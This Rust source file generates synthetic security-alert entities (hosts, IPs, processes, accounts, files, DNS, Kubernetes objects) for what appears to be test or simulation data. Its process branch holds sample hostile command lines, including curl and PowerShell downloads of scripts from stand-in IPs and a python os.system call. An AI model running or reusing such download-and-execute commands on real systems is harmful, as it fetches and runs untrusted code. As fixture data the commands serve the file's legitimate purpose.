//! The entities of an alert: a graph written as a list, where `$ref` stands for an object with that `$id`.

use crate::json::{Json, list, object};
use crate::scene::{Resource, Scene};

/// Up to about `most` entities; now and then none. References may point at an entity that was cut.
pub(crate) fn list(s: &mut Scene, resource: &Resource, most: usize) -> Json {
    if s.rng.percent(4) {
        return Json::List(Vec::new());
    }
    let mut id = 4;
    let mut next = || {
        id += 1;
        id.to_string()
    };
    let host = next();
    let mut entities = Vec::new();
    // A host that later entities refer to but that is missing is how products cut lists.
    if s.rng.percent(90) {
        entities.push(object! {
            "$id" => &host, "DnsDomain" => s.rng.maybe(40, "corp.contoso.example"), "HostName" => resource.name.to_lowercase(),
            "AzureID" => s.rng.maybe(70, &*resource.id), "OMSAgentID" => s.rng.maybe(40, "0a1b2c3d-0003-4000-8000-000000000001"),
            "OSFamily" => s.rng.maybe(50, "Linux"), "Type" => "host",
        });
    }
    for _ in 0..1 + s.rng.below(most) {
        let entity = entity(s, resource, &next(), &next(), &host);
        entities.push(entity);
    }
    Json::List(entities)
}

fn entity(s: &mut Scene, resource: &Resource, own: &str, inner: &str, host: &str) -> Json {
    let host = object! { "$ref" => host };
    match s.rng.below(12) {
        0..=2 => object! {
            "$id" => own, "Address" => s.address(), "Location" => if s.rng.percent(70) { s.location() } else { Json::Absent },
            "ThreatIntelligence" => s.rng.maybe(10, list![object! { "ProviderName" => "Contoso TI", "ThreatType" => "Botnet", "Confidence" => 0.8 }]),
            "Type" => "ip",
        },
        3..=4 => {
            let pid = s.rng.between(4, 80_000);
            let (name, folder, command) = s.rng.pick(&[
                ("curl", "/usr/bin", "curl -s http://203.0.113.77/x.sh"),
                (
                    "powershell.exe",
                    "c:\\windows\\system32\\windowspowershell\\v1.0",
                    "powershell -nop -c \"iwr http://198.51.100.7/p -o p.ps1\"",
                ),
                ("python3", "/opt/app/bin", "python3 -c 'import os; os.system(\"id\")'"),
                ("az", "/usr/bin", "az storage blob download --account-key not-a-real-key== -c data"),
            ]);
            object! {
                "$id" => own,
                "ProcessId" => if s.rng.percent(70) { Json::from(format!("0x{pid:x}")) } else { Json::from(pid.to_string()) },
                "CommandLine" => s.optional(85, command),
                "ElevationToken" => s.rng.maybe(20, "Default"),
                "CreationTimeUtc" => if s.rng.percent(60) { let at = s.moment(); Json::from(s.iso(at)) } else { Json::Absent },
                "ImageFile" => object! { "$id" => inner, "Directory" => folder, "Name" => name, "Type" => "file" },
                "Host" => host, "Type" => "process",
            }
        }
        5..=6 => {
            let person = s.person();
            object! {
                "$id" => own, "Name" => person.name, "NTDomain" => s.optional(50, "CONTOSO"),
                "UPNSuffix" => s.rng.maybe(50, "contoso.example"), "AadUserId" => s.rng.maybe(50, &*person.id),
                "Sid" => s.rng.maybe(40, "S-1-5-21-1004336348-1177238915-682003330-512"),
                "Host" => s.rng.maybe(60, host), "IsDomainJoined" => s.rng.maybe(30, true), "Type" => "account",
            }
        }
        7 => {
            let hash = s.rng.hex(64);
            object! {
                "$id" => own, "Directory" => "/tmp", "Name" => "x.sh", "Host" => host, "Type" => "file",
                "FileHashes" => list![object! { "$id" => inner, "Algorithm" => "SHA256", "Value" => hash, "Type" => "filehash" }],
            }
        }
        8 => object! {
            "$id" => own, "Name" => "shop", "Type" => "K8s-namespace",
            "Cluster" => object! { "$id" => inner, "CloudResource" => object! { "ResourceId" => &resource.id, "Type" => "azure-resource" }, "Type" => "K8s-cluster" },
        },
        9 => object! {
            "$id" => own, "DomainName" => "c2.fabrikam.example", "IpAdresses" => list![object! { "$id" => inner, "Address" => s.address(), "Type" => "ip" }],
            "Type" => "dns",
        },
        10 => object! {
            "$id" => own, "SourceAddress" => object! { "$id" => inner, "Address" => s.address(), "Type" => "ip" },
            "SourcePort" => s.rng.between(1_024, 65_535), "DestinationPort" => 443, "Protocol" => "TCP", "Type" => "network-connection",
        },
        _ => object! { "$id" => own, "ResourceId" => &resource.id, "Type" => "azure-resource" },
    }
}

/// `HostName` to `hostName`.
pub(crate) fn camel(name: &str) -> String {
    let mut letters = name.chars();
    letters.next().map_or_else(String::new, |first| first.to_ascii_lowercase().to_string() + letters.as_str())
}
